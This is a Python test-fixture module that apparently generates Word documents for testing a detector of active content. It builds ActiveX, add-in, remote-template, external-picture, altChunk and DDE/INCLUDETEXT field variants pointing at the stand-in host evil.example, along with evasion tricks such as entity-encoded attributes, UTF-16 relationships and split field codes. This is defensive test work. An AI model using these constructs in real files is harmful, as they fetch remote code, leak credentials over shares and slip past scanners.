"""Word files with content that runs or fetches: by kind, the ways in which a file can hold it."""

import re

from edited import parts_of, zipped
from wml import W

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MICROSOFT = "http://schemas.microsoft.com/office"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
SETTINGS = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
EXTERNAL = 'TargetMode="External"'


def relationship(kind, target, more="", name="evil"):
    return f'<Relationship Id="{name}" Type="{kind}" Target="{target}" {more}/>'


def related(*entries):
    return f'<Relationships xmlns="{PACKAGE}/relationships">{"".join(entries)}</Relationships>'


def part(name, content_type, data="<x/>"):
    """A part of its own name and type."""
    return name, content_type, data


OWN_SETTINGS = {
    "relations": [relationship(f"{OFFICE}/settings", "settings.xml", name="own-settings")],
    "parts": [
        part("word/settings.xml", SETTINGS, f'<w:settings xmlns:w="{W}" xmlns:r="{OFFICE}"></w:settings>')
    ],
}


def added(  # noqa: PLR0913
    data, *, relations=(), root=(), parts=(), inside="", settings=None, settings_rels=""
):
    """The document with more relationships of its main part and of the package, parts, and text at its end."""
    held = parts_of(data)
    for name, new in (("word/_rels/document.xml.rels", relations), ("_rels/.rels", root)):
        held[name] = held[name].replace(b"</Relationships>", "".join(new).encode() + b"</Relationships>")
    body = held["word/document.xml"].rpartition(b"<w:sectPr")
    held["word/document.xml"] = b"".join([body[0], inside.encode(), *body[1:]])
    for name, content_type, content in parts:
        held[name] = content if isinstance(content, bytes) else content.encode()
        override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
        held["[Content_Types].xml"] = held["[Content_Types].xml"].replace(b"</Types>", override.encode())
    if settings is not None and "word/settings.xml" not in held:
        return added(zipped(held), settings=settings, settings_rels=settings_rels, **OWN_SETTINGS)
    if settings is not None:
        begin = re.search(rb"<w:settings[^>]*>", held["word/settings.xml"])[0]
        held["word/settings.xml"] = held["word/settings.xml"].replace(begin, begin + settings.encode())
        rels = settings_rels if isinstance(settings_rels, bytes) else settings_rels.encode()
        held |= {"word/_rels/settings.xml.rels": rels} if rels else {}
    return zipped(held)


def field(code, result="x"):
    """A complex field; a code of several texts stands in several runs."""

    def char(kind):
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    texts = "".join(
        f'<w:r><w:instrText xml:space="preserve">{each}</w:instrText></w:r>'
        for each in ([code] if isinstance(code, str) else code)
    )
    return f"<w:p>{char('begin')}{texts}{char('separate')}<w:r><w:t>{result}</w:t></w:r>{char('end')}</w:p>"


def attached(target, mode=EXTERNAL, encode=str):
    rels = related(relationship(f"{OFFICE}/attachedTemplate", target, mode, "t"))
    return {
        "settings": '<w:attachedTemplate r:id="t" xmlns:r="' + OFFICE + '"/>',
        "settings_rels": encode(rels),
    }


def picture(target, kind=f"{OFFICE}/image", mode=EXTERNAL):
    drawn = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="'
        + OFFICE
        + '" r:link="evil"/></w:drawing></w:r></w:p>'
    )
    return {"relations": [relationship(kind, target, mode)], "inside": drawn}


def vml(attribute):
    return {
        "inside": f"<w:p><w:r><w:pict {VML}><v:shape><v:imagedata {attribute}/></v:shape></w:pict></w:r></w:p>"
    }


def utf_16(text):
    return text.encode("utf-16")


UNC = "\\\\evil.example@80\\dav\\a.dotm"
KINDS = {
    "activex": {
        "by relationship": {"relations": [relationship(f"{OFFICE}/control", "ax/a.xml")], "parts": [part("word/ax/a.xml", "application/xml")]},
        "by content type": {"parts": [part("word/ax/a.dat", "application/vnd.ms-office.activeX+xml")]},
        "a strict relationship": {"relations": [relationship(f"{STRICT}/control", "ax/a.xml")], "parts": [part("word/ax/a.xml", "application/xml")]},
    },
    "add-in": {
        "a ribbon": {"root": [relationship(f"{MICROSOFT}/2006/relationships/ui/extensibility", "x/y.xml")], "parts": [part("x/y.xml", "application/xml")]},
        "a newer ribbon": {"root": [relationship(f"{MICROSOFT}/2007/relationships/ui/extensibility", "x/y.xml")], "parts": [part("x/y.xml", "application/xml")]},
        "a ribbon of the quick access bar": {"root": [relationship(f"{MICROSOFT}/2006/relationships/ui/userCustomization", "x/y.xml")], "parts": [part("x/y.xml", "application/xml")]},
    },
    "fetches": {
        "a picture": picture("http://evil.example/a.png"),
        "External as an entity": picture("http://evil.example/a.png", mode='TargetMode="E&#120;ternal"'),
        "External not said": picture("http://evil.example/a.png", mode=""),
        "External in small letters": picture("http://evil.example/a.png", mode='TargetMode=" external "'),
        "a share": picture("\\\\evil.example\\a.png"),
        "a picture that says it is a link": picture("http://evil.example/a.png", f"{OFFICE}/hyperlink"),
        "a linked object": {"relations": [relationship(f"{OFFICE}/oleObject", "file://evil.example/a.doc", EXTERNAL)]},
        "a part of a document": {"relations": [relationship(f"{OFFICE}/subDocument", "http://evil.example/a.docx", EXTERNAL)]},
        "a frame": {"relations": [relationship(f"{OFFICE}/frame", "http://evil.example/a.htm", EXTERNAL)]},
        "src of VML": vml('src="http://evil.example/a.png"'),
        "o:href of VML": vml('o:href="\\\\evil.example\\a.png"'),
        "a fill of VML": {"inside": f'<w:p><w:r><w:pict {VML}><v:shape><v:fill src="http://evil.example/a"/></v:shape></w:pict></w:r></w:p>'},
        "a smart document": {"settings": '<s:schemaLibrary xmlns:s="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><s:schema s:manifestLocation="http://evil.example/m.xml"/></s:schemaLibrary>'},
        "a template attached on the web": attached(" http://evil.example/a.dotm"),
        "a template attached by another protocol": attached("mhtml:http://evil.example/a.dotm"),
        "a template attached by WebDAV": attached("webdav://evil.example/a.dotm"),
    },
    "attached": {
        "a share": attached(UNC),
        "a share by slashes": attached("//evil.example/a.dotm"),
        "a file URI with a host": attached("file://evil.example/a.dotm"),
        "a file URI of a share": attached("file:///" + UNC),
        "External as an entity": attached(UNC, 'TargetMode="E&#120;ternal"'),
        "relationships in UTF-16": attached(UNC, encode=utf_16),
        "a blank before": attached("\t " + UNC),
        "percents": attached("%5c%5cevil.example%5ca.dotm"),
    },
    "imports": {
        "HTML": {"relations": [relationship(f"{OFFICE}/aFChunk", "a.htm")], "parts": [part("word/a.htm", "text/html", "<p>x</p>")], "inside": f'<w:altChunk r:id="evil" xmlns:r="{OFFICE}"/>'},
        "RTF that updates an object": {"relations": [relationship(f"{OFFICE}/aFChunk", "a.bin")], "parts": [part("word/a.bin", "application/rtf", "{\\rtf1\\objupdate}")], "inside": f'<w:altChunk r:id="evil" xmlns:r="{OFFICE}"/>'},
    },
    "mail-merge": {
        "a query": {"settings": '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:query w:val="SELECT 1"/></w:mailMerge>'},
    },
    "field": {
        **{name: {"inside": field(f' {name} x "http://evil.example" ')} for name in "DDE DDEAUTO INCLUDETEXT INCLUDEPICTURE LINK DATABASE INCLUDE RD".split()},
        "in small letters": {"inside": field(" ddeauto x y ")},
        "in pieces": {"inside": field([" INCL", "UDE", "TEXT x "])},
        "as entities": {"inside": field(" &#68;DE x ")},
        "a simple field": {"inside": '<w:p><w:fldSimple w:instr=" LINK x "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'},
        "in a field": {"inside": field(" IF 1 = 1 ", "x").replace("<w:r><w:t>x</w:t></w:r>", field(" DDE x ")[5:-6])},
        "a name that a field gives": {"inside": field("@").replace('<w:r><w:instrText xml:space="preserve">@</w:instrText></w:r>', field(" QUOTE 68 68 69 ")[5:-6])},
        "a name half given": {"inside": field(" DD@").replace("@</w:instrText></w:r>", "</w:instrText></w:r>" + field(" QUOTE 69 ")[5:-6])},
    },
}  # fmt: skip
